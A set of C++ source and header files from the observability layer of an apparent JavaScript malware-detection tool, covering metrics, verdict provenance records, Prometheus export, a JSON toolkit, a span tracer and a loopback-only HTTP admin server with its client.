  /// Human-readable table (name, labels, value summary), sorted.
  std::string to_table() const;

  /// Zeroes every registered metric (tests; metric identities survive).
  void reset();

 private:
  struct Entry {
    std::string name;
    Labels labels;
    MetricKind kind;
    MetricOptions opts;
    std::unique_ptr<Counter> counter;
    std::unique_ptr<Gauge> gauge;
    std::unique_ptr<Summary> summary;
    std::unique_ptr<Histogram> histogram;
  };

  Entry* find_or_create(std::string_view name, const Labels& labels,
                        MetricKind kind, const MetricOptions& opts,
                        std::vector<double> bounds = {});
  std::vector<const Entry*> sorted_entries() const;
  std::string export_json(bool deterministic_only) const;

  mutable std::mutex mu_;
  std::vector<std::unique_ptr<Entry>> entries_;
};

/// Shorthand for Registry::global().
inline Registry& metrics() { return Registry::global(); }

}  // namespace jsrev::obs
