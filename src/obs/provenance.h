// Per-verdict provenance: an opt-in record explaining how one script's
// verdict came about.
//
// A detector that supports provenance (JsRevealer::explain, or any classify
// over a ScriptAnalysis whose provenance capture is enabled) fills one of
// these as the pipeline runs: what the frontend saw, how many path contexts
// were extracted and recognized, where the attention mass landed among the
// trained clusters, which lint rules fired, and how long each stage took.
// The record is plain data — dump it with to_json() and attach it to an
// incident, a regression report, or a `jsr_stats --explain` invocation.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <vector>

namespace jsrev::obs {

/// Per-stage durations of one script's classification (milliseconds).
struct StageDurationsMs {
  double parse = 0.0;
  double enhanced_ast = 0.0;    // scope + data-flow augmentation
  double path_traversal = 0.0;  // path-context enumeration
  double embedding = 0.0;
  double lint = 0.0;
  double classify = 0.0;        // classifier predict
};

/// Attention mass a script deposited on one surviving cluster feature.
struct ClusterAttention {
  int feature_index = 0;
  bool from_benign = false;  // cluster learned from the benign path set
  double mass = 0.0;         // accumulated attention weight (paper Eq. 2)
};

struct VerdictProvenance {
  std::string detector;
  int verdict = -1;  // 1 = malicious, 0 = benign, -1 = not classified yet

  /// Wire correlation handle: the serving layer stamps the kClassify frame's
  /// id here, so a provenance record joins against the daemon's structured
  /// logs and trace spans for the same request. 0 = not serving a frame.
  std::uint32_t request_id = 0;

  // Frontend.
  std::size_t source_bytes = 0;
  bool parse_failed = false;
  std::string parse_error;       // populated when parse_failed
  bool parse_limit_trip = false; // failure came from a ParseLimits bound

  // Path extraction / embedding.
  std::size_t path_count = 0;        // extracted path contexts
  std::size_t known_path_count = 0;  // of those, in the trained vocabulary
  /// Embedded paths farther than the 4-radius cutoff from every cluster —
  /// the per-script analogue of training-time outlier removal.
  std::size_t paths_outside_clusters = 0;

  // Feature extraction: nonzero attention mass per surviving cluster.
  std::vector<ClusterAttention> cluster_attention;
  /// Clusters the training stage dropped as benign/malicious overlap
  /// (model-level context, identical for every script of one detector).
  std::size_t train_clusters_removed = 0;

  // Lint (only populated when the detector runs with lint features).
  std::size_t lint_malice_diags = 0;
  std::size_t lint_hygiene_diags = 0;
  std::vector<std::string> lint_rules_fired;  // distinct ids, sorted

  StageDurationsMs stage_ms;

  /// Deterministic JSON rendering of the record.
  std::string to_json() const;
};

}  // namespace jsrev::obs
