// Prometheus text exposition (format 0.0.4) over the obs metrics registry.
//
// One exporter, two consumers: render_prometheus() formats a vector of
// MetricSample rows, which can come either straight from a live Registry
// (the admin plane's GET /metrics) or from a drained Registry::to_json()
// snapshot via samples_from_metrics_json() (`jsr_stats --prom`, STATS-frame
// consumers). Both paths produce byte-identical text for the same values —
// the round-trip unit test pins this.
//
// Mapping rules (documented in DESIGN.md §16):
//  * names: "jsr_" + the registry name with every character outside
//    [a-zA-Z0-9_] replaced by '_' (so "serve.stage_ms" → "jsr_serve_stage_ms")
//  * Unit::kMillis metrics convert to Prometheus base seconds: a trailing
//    "_ms" is stripped, "_seconds" appended, and every value (sum, bounds)
//    scaled by 1e-3
//  * Unit::kBytes metrics get a "_bytes" suffix when not already present
//  * counters get the conventional "_total" suffix
//  * summaries render as <name>_sum / <name>_count; histograms as cumulative
//    <name>_bucket{le="..."} rows (inclusive upper bounds, final le="+Inf"
//    equal to _count) plus _sum / _count
//  * label values escape \, ", and newline per the exposition spec
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "obs/metrics.h"

namespace jsrev::obs {

/// Prometheus-legal metric family name for a registry metric ("jsr_" prefix,
/// sanitized, unit suffix applied; no kind suffix like _total/_bucket).
std::string prometheus_name(std::string_view registry_name, Unit unit);

/// Renders sample rows as Prometheus text exposition. Rows must be sorted
/// by (name, labels) — Registry::samples() and samples_from_metrics_json()
/// both guarantee this.
std::string render_prometheus(const std::vector<MetricSample>& samples);

/// Convenience: snapshot + render in one call (GET /metrics).
std::string render_prometheus(const Registry& registry);

/// Rebuilds sample rows from a Registry::to_json() document (the drained
/// snapshot a STATS frame or `jsr_stats --metrics` produces). Returns false
/// and fills `error` when the document does not carry the expected shape.
bool samples_from_metrics_json(std::string_view json,
                               std::vector<MetricSample>* out,
                               std::string* error = nullptr);

/// Structural validator for Prometheus text exposition: legal metric names,
/// every sample line parses, HELP/TYPE lines well-formed, histogram le
/// bucket counts cumulative and capped by _count, summary/histogram _sum and
/// _count present. Used by the admin tests and `jsr_stats --validate`.
bool validate_prometheus_text(std::string_view text,
                              std::string* error = nullptr);

}  // namespace jsrev::obs
