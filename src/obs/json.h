// Minimal JSON toolkit shared by every artifact emitter in the repository.
//
// Three pieces, all dependency-free:
//  * JsonWriter — a streaming writer producing deterministic, pretty-printed
//    JSON (2-space indent, keys in caller order, fixed number formatting),
//    so two runs that record the same values emit byte-identical text.
//  * JsonValue / json_parse — a tiny DOM parser used by tests and the
//    `jsr_stats --validate` gate to check that emitted artifacts are
//    well-formed and carry the expected envelope.
//  * The BENCH_*.json envelope helper — every bench emitter opens its object
//    through write_bench_header() and validates through
//    validate_bench_json(), so all BENCH artifacts share one schema:
//    {"schema_version": N, "bench": <name>, "hardware_threads": N, ...}.
#pragma once

#include <cstdint>
#include <map>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

namespace jsrev::obs {

/// Schema version stamped into every BENCH_*.json envelope.
inline constexpr int kBenchSchemaVersion = 1;

/// Streaming JSON writer with deterministic formatting. Commas and
/// indentation are managed internally; misuse (value without a pending key
/// inside an object) is a logic error surfaced by assert-style throw.
class JsonWriter {
 public:
  JsonWriter& begin_object();
  JsonWriter& end_object();
  JsonWriter& begin_array();
  JsonWriter& end_array();

  /// States the key of the next value/container (objects only).
  JsonWriter& key(std::string_view k);

  JsonWriter& value(std::string_view v);
  JsonWriter& value(const char* v) { return value(std::string_view(v)); }
  JsonWriter& value(bool v);
  JsonWriter& value(double v);  // %.17g, trimmed — round-trips exactly
  JsonWriter& value(std::int64_t v);
  JsonWriter& value(std::uint64_t v);
  JsonWriter& value(int v) { return value(static_cast<std::int64_t>(v)); }
  /// Writes a double with fixed `prec` digits (bench-table style numbers).
  JsonWriter& value_fixed(double v, int prec);
  JsonWriter& null_value();

  /// Shorthand: key(k) followed by value(v).
  template <typename T>
  JsonWriter& kv(std::string_view k, T v) {
    key(k);
    return value(v);
  }
  JsonWriter& kv_fixed(std::string_view k, double v, int prec) {
    key(k);
    return value_fixed(v, prec);
  }

  /// The document text; valid once every container has been closed.
  const std::string& str() const { return out_; }

 private:
  void before_value();
  void indent();

  std::string out_;
  // Per-open-container state: is it an object, and has it seen any entry.
  struct Frame {
    bool object = false;
    bool any = false;
  };
  std::vector<Frame> stack_;
  bool key_pending_ = false;
};

/// Escapes `s` for inclusion between double quotes in JSON output.
std::string json_escape(std::string_view s);

/// Parsed JSON value (tiny DOM used by validators and tests).
struct JsonValue {
  enum class Kind { kNull, kBool, kNumber, kString, kArray, kObject };
  Kind kind = Kind::kNull;
  bool boolean = false;
  double number = 0.0;
  std::string string;
  std::vector<JsonValue> array;
  // Insertion order preserved; lookup is linear (documents are small).
  std::vector<std::pair<std::string, JsonValue>> object;

  bool is_object() const { return kind == Kind::kObject; }
  bool is_array() const { return kind == Kind::kArray; }
  /// Member lookup; nullptr when absent or not an object.
  const JsonValue* find(std::string_view key) const;
};

/// Parses a complete JSON document. Returns nullptr and fills `error` (when
/// non-null) on malformed input; trailing garbage is an error.
std::unique_ptr<JsonValue> json_parse(std::string_view text,
                                      std::string* error = nullptr);

/// True when `text` is a well-formed JSON document.
bool json_valid(std::string_view text, std::string* error = nullptr);

/// Opens the shared BENCH_*.json envelope on `w` (begin_object + the common
/// header fields). The caller appends its payload fields and end_object()s.
void write_bench_header(JsonWriter& w, std::string_view bench_name);

/// Validates a BENCH_*.json document: well-formed, top-level object, and
/// carries the envelope fields ("schema_version" matching
/// kBenchSchemaVersion, "bench", "hardware_threads"). `expected_bench` (when
/// non-empty) must match the "bench" field.
bool validate_bench_json(std::string_view text,
                         std::string_view expected_bench = {},
                         std::string* error = nullptr);

/// Validates a Chrome trace-event document: well-formed JSON, top-level
/// object with a "traceEvents" array whose entries carry name/ph/ts/pid/tid.
bool validate_chrome_trace_json(std::string_view text,
                                std::string* error = nullptr);

}  // namespace jsrev::obs
