// Span tracer with Chrome trace-event export.
//
// RAII Span objects bracket a region of work; when tracing is enabled each
// completed span lands in the calling thread's ring buffer as a complete
// ("ph":"X") trace event. export_chrome_json() renders every buffered event
// in the Chrome trace-event format, loadable by chrome://tracing and
// Perfetto (https://ui.perfetto.dev) as-is.
//
// Cost model: when tracing is disabled (the default) constructing a Span is
// one relaxed atomic load and a branch — no clock read, no allocation — so
// spans can stay compiled into every hot path. When enabled, a span costs
// two steady_clock reads plus a bounded copy into a preallocated per-thread
// ring buffer (oldest events are overwritten once a thread exceeds
// kEventsPerThread, so memory stays fixed no matter how long the process
// runs).
//
// Nesting: spans are recorded at destruction on the thread that created
// them, so for any one thread the recorded intervals are properly nested
// (RAII order) — the trace test asserts this invariant on the export.
#pragma once

#include <atomic>
#include <cstddef>
#include <cstdint>
#include <iosfwd>
#include <memory>
#include <mutex>
#include <string>
#include <vector>

namespace jsrev::obs {

class Tracer {
 public:
  /// Events retained per thread before the ring wraps.
  static constexpr std::size_t kEventsPerThread = 1 << 15;
  static constexpr std::size_t kMaxName = 47;
  static constexpr std::size_t kMaxCategory = 15;

  static Tracer& global();

  /// Cheap enough to sit in every Span constructor.
  static bool enabled() noexcept {
    return g_enabled.load(std::memory_order_relaxed);
  }
  void set_enabled(bool on) noexcept {
    g_enabled.store(on, std::memory_order_relaxed);
  }

  /// Appends one complete event for the calling thread. Names longer than
  /// the fixed limits are truncated. Timestamps are microseconds on the
  /// process-local steady clock.
  void record(const char* name, const char* category, std::int64_t begin_us,
              std::int64_t end_us) noexcept;

  /// Microseconds since the tracer's epoch (first use).
  static std::int64_t now_us() noexcept;

  /// Renders every buffered event as {"traceEvents": [...]} and, with
  /// clear_after, empties the buffers so a subsequent export starts fresh.
  std::string export_chrome_json(bool clear_after = false);
  void write_chrome_json(std::ostream& out, bool clear_after = false);

  /// Drops all buffered events (buffers stay registered).
  void clear();

  /// Number of events currently buffered across all threads.
  std::size_t event_count() const;

 private:
  struct Event {
    char name[kMaxName + 1];
    char category[kMaxCategory + 1];
    std::int64_t ts_us;
    std::int64_t dur_us;
  };

  struct Buffer {
    explicit Buffer(std::uint32_t id) : tid(id) {
      events.reserve(kEventsPerThread);
    }
    mutable std::mutex mu;  // writer = owning thread; reader = exporter
    std::vector<Event> events;
    std::size_t head = 0;  // next write slot once the ring has wrapped
    bool wrapped = false;
    std::uint32_t tid;
  };

  Buffer* this_thread_buffer();

  static std::atomic<bool> g_enabled;

  mutable std::mutex mu_;  // guards buffers_ registration
  std::vector<std::unique_ptr<Buffer>> buffers_;
  std::uint32_t next_tid_ = 1;
};

/// RAII trace span. `name` and `category` must outlive the span (string
/// literals in practice); both are copied into the event at destruction.
class Span {
 public:
  explicit Span(const char* name, const char* category = "app") noexcept {
    if (Tracer::enabled()) {
      name_ = name;
      category_ = category;
      begin_us_ = Tracer::now_us();
    }
  }
  ~Span() {
    if (name_ != nullptr) {
      Tracer::global().record(name_, category_, begin_us_, Tracer::now_us());
    }
  }

  Span(const Span&) = delete;
  Span& operator=(const Span&) = delete;

 private:
  const char* name_ = nullptr;  // null: tracing was off at construction
  const char* category_ = nullptr;
  std::int64_t begin_us_ = 0;
};

}  // namespace jsrev::obs
