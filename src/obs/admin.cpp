#include "obs/admin.h"

#include <cctype>
#include <cstdlib>
#include <cstring>
#include <stdexcept>
#include <utility>

#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <arpa/inet.h>

#include "obs/json.h"
#include "obs/log.h"
#include "obs/metrics.h"
#include "obs/prometheus.h"
#include "obs/trace.h"
#include "util/version.h"

namespace jsrev::obs {
namespace {

void throw_errno(const std::string& what) {
  throw std::runtime_error(what + ": " + std::strerror(errno));
}

void set_cloexec(int fd) { ::fcntl(fd, F_SETFD, FD_CLOEXEC); }

bool write_all(int fd, std::string_view data) {
  while (!data.empty()) {
    const ssize_t n = ::write(fd, data.data(), data.size());
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    data.remove_prefix(static_cast<std::size_t>(n));
  }
  return true;
}

std::int64_t mono_us() {
  timespec ts{};
  ::clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<std::int64_t>(ts.tv_sec) * 1'000'000 +
         ts.tv_nsec / 1'000;
}

const char* reason_phrase(int status) {
  switch (status) {
    case 200: return "OK";
    case 400: return "Bad Request";
    case 404: return "Not Found";
    case 405: return "Method Not Allowed";
    case 408: return "Request Timeout";
    case 431: return "Request Header Fields Too Large";
    case 503: return "Service Unavailable";
    default: return "Error";
  }
}

std::string http_response(int status, std::string_view content_type,
                          std::string_view body) {
  std::string out = "HTTP/1.1 " + std::to_string(status) + " " +
                    reason_phrase(status) + "\r\n";
  out += "Content-Type: ";
  out += content_type;
  out += "\r\nContent-Length: " + std::to_string(body.size()) +
         "\r\nConnection: close\r\n\r\n";
  out += body;
  return out;
}

std::string plain(int status, std::string_view body) {
  return http_response(status, "text/plain; charset=utf-8", body);
}

}  // namespace

AdminServer::AdminServer() : start_us_(mono_us()) {
  if (::pipe(wake_pipe_) != 0) throw_errno("pipe");
  set_cloexec(wake_pipe_[0]);
  set_cloexec(wake_pipe_[1]);
}

AdminServer::~AdminServer() {
  stop();
  if (listen_fd_ >= 0) ::close(listen_fd_);
  if (!unix_path_.empty()) ::unlink(unix_path_.c_str());
  ::close(wake_pipe_[0]);
  ::close(wake_pipe_[1]);
}

void AdminServer::listen_tcp(std::uint16_t port, const std::string& bind_addr) {
  const int fd = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0) throw_errno("socket(AF_INET)");
  set_cloexec(fd);
  const int one = 1;
  ::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));

  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (!bind_addr.empty() &&
      ::inet_pton(AF_INET, bind_addr.c_str(), &addr.sin_addr) != 1) {
    ::close(fd);
    throw std::runtime_error("bad admin bind address: " + bind_addr);
  }
  addr.sin_port = htons(port);
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) !=
      0) {
    ::close(fd);
    throw_errno("bind(admin port " + std::to_string(port) + ")");
  }
  if (::listen(fd, 16) != 0) {
    ::close(fd);
    throw_errno("listen(admin)");
  }
  sockaddr_in bound{};
  socklen_t len = sizeof(bound);
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&bound), &len) == 0) {
    bound_port_ = ntohs(bound.sin_port);
  }
  listen_fd_ = fd;
}

void AdminServer::listen_unix(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path)) {
    throw std::runtime_error("admin unix socket path too long: " + path);
  }
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);

  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) throw_errno("socket(AF_UNIX)");
  set_cloexec(fd);
  ::unlink(path.c_str());
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr), sizeof(addr)) !=
      0) {
    ::close(fd);
    throw_errno("bind(" + path + ")");
  }
  if (::listen(fd, 16) != 0) {
    ::close(fd);
    throw_errno("listen(" + path + ")");
  }
  listen_fd_ = fd;
  unix_path_ = path;
}

void AdminServer::set_ready_check(std::function<bool()> check) {
  ready_check_ = std::move(check);
}

void AdminServer::set_status_fields(std::function<void(JsonWriter&)> fields) {
  status_fields_ = std::move(fields);
}

void AdminServer::request_shutdown() noexcept {
  shutdown_.store(true, std::memory_order_relaxed);
  const char byte = 1;
  [[maybe_unused]] const ssize_t n = ::write(wake_pipe_[1], &byte, 1);
}

void AdminServer::start() {
  run_thread_ = std::thread([this] { run(); });
}

void AdminServer::stop() {
  request_shutdown();
  if (run_thread_.joinable()) run_thread_.join();
}

void AdminServer::run() {
  if (listen_fd_ < 0) {
    throw std::logic_error("AdminServer::run without listen_tcp/listen_unix");
  }
  while (!shutdown_requested()) {
    pollfd fds[2] = {{listen_fd_, POLLIN, 0}, {wake_pipe_[0], POLLIN, 0}};
    const int rc = ::poll(fds, 2, -1);
    if (rc < 0) {
      if (errno == EINTR) continue;
      break;
    }
    if ((fds[1].revents & POLLIN) != 0 || shutdown_requested()) break;
    if ((fds[0].revents & POLLIN) == 0) continue;

    const int client = ::accept(listen_fd_, nullptr, nullptr);
    if (client < 0) continue;
    set_cloexec(client);

    // Reap before spawning: every accept joins the threads that already
    // finished, so a steady scrape keeps the tracked set at the number of
    // connections genuinely in flight instead of growing one joinable
    // thread (and its retained stack) per request until pthread_create
    // fails.
    reap_finished_connections();

    auto done = std::make_shared<std::atomic<bool>>(false);
    std::lock_guard<std::mutex> lock(threads_mu_);
    conn_threads_.push_back(
        {std::thread([this, client, done] {
           handle_connection(client);
           ::close(client);
           done->store(true, std::memory_order_release);
         }),
         done});
  }

  std::vector<Conn> conns;
  {
    std::lock_guard<std::mutex> lock(threads_mu_);
    conns.swap(conn_threads_);
  }
  for (Conn& c : conns) c.thread.join();
}

void AdminServer::reap_finished_connections() {
  std::lock_guard<std::mutex> lock(threads_mu_);
  auto it = conn_threads_.begin();
  while (it != conn_threads_.end()) {
    if (it->done->load(std::memory_order_acquire)) {
      it->thread.join();
      it = conn_threads_.erase(it);
    } else {
      ++it;
    }
  }
}

std::size_t AdminServer::tracked_connections() {
  std::lock_guard<std::mutex> lock(threads_mu_);
  return conn_threads_.size();
}

void AdminServer::handle_connection(int fd) {
  // One request per connection. Read until the blank line ending the head,
  // bounded by kMaxRequestBytes (→ 431) and a 5 s overall deadline (→ 408);
  // every wait also watches the self-pipe so shutdown unsticks us.
  std::string buf;
  const std::int64_t deadline_us = mono_us() + 5'000'000;
  std::string response;
  while (true) {
    if (buf.find("\r\n\r\n") != std::string::npos ||
        buf.find("\n\n") != std::string::npos) {
      response = respond(buf);
      break;
    }
    if (buf.size() > kMaxRequestBytes) {
      response = plain(431, "request head too large\n");
      break;
    }
    const std::int64_t left_ms = (deadline_us - mono_us()) / 1'000;
    if (left_ms <= 0) {
      response = plain(408, "timed out reading request\n");
      break;
    }
    pollfd fds[2] = {{fd, POLLIN, 0}, {wake_pipe_[0], POLLIN, 0}};
    const int rc = ::poll(fds, 2, static_cast<int>(left_ms));
    if (rc < 0) {
      if (errno == EINTR) continue;
      return;
    }
    if ((fds[1].revents & POLLIN) != 0 || shutdown_requested()) return;
    if (rc == 0) continue;  // recheck deadline
    char chunk[4096];
    const ssize_t n = ::read(fd, chunk, sizeof(chunk));
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) return;  // peer vanished before finishing the request
    buf.append(chunk, static_cast<std::size_t>(n));
  }
  write_all(fd, response);
}

std::string AdminServer::respond(std::string_view head) {
  // Request line: METHOD SP TARGET SP HTTP/x.y
  const std::size_t eol = head.find_first_of("\r\n");
  const std::string_view line = head.substr(0, eol);
  const std::size_t sp1 = line.find(' ');
  const std::size_t sp2 =
      sp1 == std::string_view::npos ? sp1 : line.find(' ', sp1 + 1);
  if (sp1 == std::string_view::npos || sp2 == std::string_view::npos ||
      line.substr(sp2 + 1).rfind("HTTP/", 0) != 0) {
    LogRecord(LogLevel::kWarn, "admin_bad_request")
        .kv("line", line.substr(0, 120));
    return plain(400, "malformed request line\n");
  }
  const std::string_view method = line.substr(0, sp1);
  std::string_view target = line.substr(sp1 + 1, sp2 - sp1 - 1);
  if (method != "GET") return plain(405, "only GET is supported\n");

  std::string_view query;
  if (const std::size_t q = target.find('?'); q != std::string_view::npos) {
    query = target.substr(q + 1);
    target = target.substr(0, q);
  }

  if (target == "/metrics") {
    return http_response(200, "text/plain; version=0.0.4; charset=utf-8",
                         render_prometheus(metrics()));
  }
  if (target == "/healthz") return plain(200, "ok\n");
  if (target == "/readyz") {
    const bool ready = !ready_check_ || ready_check_();
    return ready ? plain(200, "ready\n") : plain(503, "draining\n");
  }
  if (target == "/statusz") {
    JsonWriter w;
    w.begin_object();
    w.kv("version", kVersionString);
    w.kv("uptime_s",
         static_cast<double>(mono_us() - start_us_) / 1'000'000.0);
    if (status_fields_) status_fields_(w);
    w.end_object();
    return http_response(200, "application/json", w.str() + "\n");
  }
  if (target == "/tracez") return handle_tracez(query);
  return plain(404, "unknown admin path\n");
}

std::string AdminServer::handle_tracez(std::string_view query) {
  long window_ms = 100;
  if (query.rfind("ms=", 0) == 0) {
    const std::string value(query.substr(3));
    char* end = nullptr;
    const long v = std::strtol(value.c_str(), &end, 10);
    if (end == nullptr || *end != '\0' || end == value.c_str() || v < 0) {
      return plain(400, "bad ms= value\n");
    }
    window_ms = v;
  } else if (!query.empty()) {
    return plain(400, "unknown query (want ms=N)\n");
  }
  if (window_ms > kMaxTraceMs) window_ms = kMaxTraceMs;

  // One capture at a time; concurrent requests queue here rather than
  // fighting over the tracer's enabled flag.
  std::lock_guard<std::mutex> lock(trace_mu_);
  Tracer& tracer = Tracer::global();
  const bool was_enabled = Tracer::enabled();
  tracer.clear();
  tracer.set_enabled(true);
  const std::int64_t until_us = mono_us() + window_ms * 1'000;
  while (!shutdown_requested()) {
    const std::int64_t left_ms = (until_us - mono_us()) / 1'000;
    if (left_ms <= 0) break;
    pollfd p{wake_pipe_[0], POLLIN, 0};
    ::poll(&p, 1, static_cast<int>(left_ms));
    if ((p.revents & POLLIN) != 0) break;
  }
  tracer.set_enabled(was_enabled);
  std::string trace = tracer.export_chrome_json(/*clear_after=*/true);
  LogRecord(LogLevel::kInfo, "admin_trace_capture")
      .kv("window_ms", static_cast<std::int64_t>(window_ms))
      .kv("bytes", static_cast<std::uint64_t>(trace.size()));
  return http_response(200, "application/json", trace);
}

// ---------------------------------------------------------------------------
// Client side

namespace {

/// Bounds every connect/send/recv on the client socket: SO_SNDTIMEO covers
/// connect() on Linux, SO_RCVTIMEO turns a wedged peer into EAGAIN instead
/// of an indefinite block.
void set_io_deadline(int fd, long timeout_ms) {
  timeval tv{};
  tv.tv_sec = timeout_ms / 1000;
  tv.tv_usec = (timeout_ms % 1000) * 1000;
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  ::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

}  // namespace

int admin_http_get(const std::string& endpoint, const std::string& path,
                   std::string* body, std::string* error, long timeout_ms) {
  const auto fail = [&](const std::string& what) {
    if (error != nullptr) *error = what;
    return -1;
  };
  if (timeout_ms <= 0) timeout_ms = 10'000;

  int fd = -1;
  if (endpoint.rfind("unix:", 0) == 0) {
    const std::string sock_path = endpoint.substr(5);
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    if (sock_path.size() >= sizeof(addr.sun_path)) {
      return fail("unix socket path too long");
    }
    std::memcpy(addr.sun_path, sock_path.c_str(), sock_path.size() + 1);
    fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0) return fail(std::string("socket: ") + std::strerror(errno));
    set_io_deadline(fd, timeout_ms);
    if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                  sizeof(addr)) != 0) {
      const std::string e = std::strerror(errno);
      ::close(fd);
      return fail("connect(" + sock_path + "): " + e);
    }
  } else {
    const std::size_t colon = endpoint.rfind(':');
    if (colon == std::string::npos) {
      return fail("endpoint must be host:port or unix:/path");
    }
    const std::string host = endpoint.substr(0, colon);
    const int port = std::atoi(endpoint.c_str() + colon + 1);
    if (port <= 0 || port > 65535) return fail("bad port in endpoint");
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_port = htons(static_cast<std::uint16_t>(port));
    const std::string ip = host.empty() || host == "localhost"
                               ? std::string("127.0.0.1")
                               : host;
    if (::inet_pton(AF_INET, ip.c_str(), &addr.sin_addr) != 1) {
      return fail("bad host (want a dotted-quad IPv4 address): " + host);
    }
    fd = ::socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0) return fail(std::string("socket: ") + std::strerror(errno));
    set_io_deadline(fd, timeout_ms);
    if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                  sizeof(addr)) != 0) {
      const std::string e = std::strerror(errno);
      ::close(fd);
      return fail("connect(" + endpoint + "): " + e);
    }
  }

  const std::string request =
      "GET " + path + " HTTP/1.1\r\nHost: admin\r\nConnection: close\r\n\r\n";
  if (!write_all(fd, request)) {
    ::close(fd);
    return fail("short write sending request");
  }

  std::string response;
  char chunk[8192];
  while (true) {
    const ssize_t n = ::read(fd, chunk, sizeof(chunk));
    if (n < 0 && errno == EINTR) continue;
    if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) {
      ::close(fd);
      return fail("timed out waiting for response from " + endpoint);
    }
    if (n <= 0) break;
    response.append(chunk, static_cast<std::size_t>(n));
  }
  ::close(fd);

  if (response.rfind("HTTP/", 0) != 0) return fail("not an HTTP response");
  const std::size_t sp = response.find(' ');
  if (sp == std::string::npos) return fail("malformed status line");
  const int status = std::atoi(response.c_str() + sp + 1);
  if (status < 100 || status > 599) return fail("malformed status code");
  std::size_t body_at = response.find("\r\n\r\n");
  body_at = body_at == std::string::npos ? response.size() : body_at + 4;
  if (body != nullptr) *body = response.substr(body_at);
  return status;
}

}  // namespace jsrev::obs
