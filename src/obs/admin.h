// Minimal dependency-free HTTP/1.1 admin server — the telemetry plane that
// rides alongside the serve daemon's frame protocol.
//
// Endpoints (all GET, one request per connection, Connection: close):
//   /metrics   Prometheus text exposition of the global obs registry
//   /healthz   liveness: 200 while the process runs
//   /readyz    readiness: 200 while the ready check passes, 503 once the
//              daemon starts draining (flips before the frame plane's BYE)
//   /statusz   JSON: build/version info, uptime, plus caller-injected fields
//              (model artifact, batcher queue depth, ...)
//   /tracez    arms the span tracer for ?ms=N milliseconds (default 100,
//              capped) and returns the captured Chrome trace JSON
//
// Wire behavior is deliberately boring and is pinned by tests: a request
// line that does not parse draws 400, headers beyond the cap draw 431, any
// method but GET draws 405, unknown paths draw 404 — and in every case only
// that connection dies; the accept loop and the daemon keep running. The
// shutdown story is the same self-pipe idiom as serve::Server: every blocking
// poll also watches the pipe, so request_shutdown() (async-signal-safe)
// unsticks readers, /tracez waits, and the accept loop at once.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

namespace jsrev::obs {

class JsonWriter;

class AdminServer {
 public:
  /// Largest request head (request line + headers) accepted; beyond this the
  /// server answers 431 Request Header Fields Too Large.
  static constexpr std::size_t kMaxRequestBytes = 8192;
  /// Longest /tracez capture window honored, milliseconds.
  static constexpr long kMaxTraceMs = 10'000;

  AdminServer();
  ~AdminServer();

  AdminServer(const AdminServer&) = delete;
  AdminServer& operator=(const AdminServer&) = delete;

  /// Binds a loopback-only TCP listener (port 0 picks an ephemeral port; see
  /// bound_port()) or a Unix-domain listener. Throws std::runtime_error on
  /// bind/listen failure.
  void listen_tcp(std::uint16_t port, const std::string& bind_addr = {});
  void listen_unix(const std::string& path);

  /// For TCP listeners bound to port 0: the actual port. 0 otherwise.
  std::uint16_t bound_port() const { return bound_port_; }

  /// Readiness probe behind /readyz; defaults to "always ready". Must be
  /// callable from any thread for the server's lifetime.
  void set_ready_check(std::function<bool()> check);

  /// Extra /statusz fields: the callback receives the writer positioned
  /// inside the top-level object, after the built-in version/uptime fields,
  /// and appends members with w.kv(...) / nested objects. Must be callable
  /// from any thread for the server's lifetime.
  void set_status_fields(std::function<void(JsonWriter&)> fields);

  /// Accept loop on the calling thread until request_shutdown(). Joins every
  /// connection thread before returning.
  void run();

  /// run() on a background thread; pairs with stop().
  void start();
  /// request_shutdown() + join the start() thread. Idempotent.
  void stop();

  /// Async-signal-safe graceful stop (one write to the self-pipe).
  void request_shutdown() noexcept;

  bool shutdown_requested() const noexcept {
    return shutdown_.load(std::memory_order_relaxed);
  }

  /// Connection threads currently tracked (in-flight plus finished-but-not-
  /// yet-reaped). Exposed so tests can pin that the accept loop reaps: a
  /// steady scrape must not grow this without bound.
  std::size_t tracked_connections();

 private:
  // One accepted connection: its thread plus a flag the thread sets when it
  // is done, so the accept loop can join() finished threads (glibc only
  // reclaims a joinable thread's stack on join) without blocking on live
  // ones.
  struct Conn {
    std::thread thread;
    std::shared_ptr<std::atomic<bool>> done;
  };

  void handle_connection(int fd);
  /// Joins and drops every tracked connection whose thread has finished.
  void reap_finished_connections();
  /// Full HTTP response (status line + headers + body) for one request head.
  std::string respond(std::string_view head);
  std::string handle_tracez(std::string_view query);

  int listen_fd_ = -1;
  std::uint16_t bound_port_ = 0;
  std::string unix_path_;  // unlinked on destruction when non-empty

  int wake_pipe_[2] = {-1, -1};
  std::atomic<bool> shutdown_{false};

  std::function<bool()> ready_check_;
